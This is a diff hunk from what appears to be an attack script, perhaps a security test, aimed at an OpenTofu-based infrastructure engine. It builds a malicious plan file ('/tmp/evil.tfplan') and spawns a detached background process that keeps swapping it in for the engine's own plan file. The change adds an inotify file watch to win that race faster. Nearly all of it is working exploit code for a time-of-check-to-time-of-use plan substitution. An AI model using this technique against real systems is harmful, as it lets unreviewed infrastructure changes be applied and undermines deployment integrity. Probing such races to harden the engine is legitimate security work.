@@ -49,7 +49,8 @@ const attempts = [
   execFileSync("tofu", ["init", "-input=false"], opts);
   execFileSync("tofu", ["plan", "-lock=false", "-input=false", "-out=/tmp/evil.tfplan"], opts);
   say("ATTACK evil plan ready");
-  const swapper = "const fs=require('fs');let last=-1;setInterval(()=>{try{const s=fs.statSync('/ktf/work/ktf.tfplan');if(s.ino!==last){fs.copyFileSync('/tmp/evil.tfplan','/ktf/work/swap.tmp');fs.renameSync('/ktf/work/swap.tmp','/ktf/work/ktf.tfplan');last=fs.statSync('/ktf/work/ktf.tfplan').ino;}}catch{}},1);";
+  // Woken by inotify the moment the engine creates its plan file, and polling besides.
+  const swapper = "const fs=require('fs');let last=-1;const swap=()=>{try{const s=fs.statSync('/ktf/work/ktf.tfplan');if(s.ino!==last){fs.copyFileSync('/tmp/evil.tfplan','/ktf/work/swap.tmp');fs.renameSync('/ktf/work/swap.tmp','/ktf/work/ktf.tfplan');last=fs.statSync('/ktf/work/ktf.tfplan').ino;}}catch{}};fs.watch('/ktf/work',swap);setInterval(swap,1);";
   spawn("node", ["-e", swapper], { detached: true, stdio: "ignore" }).unref();
 })();
 `;
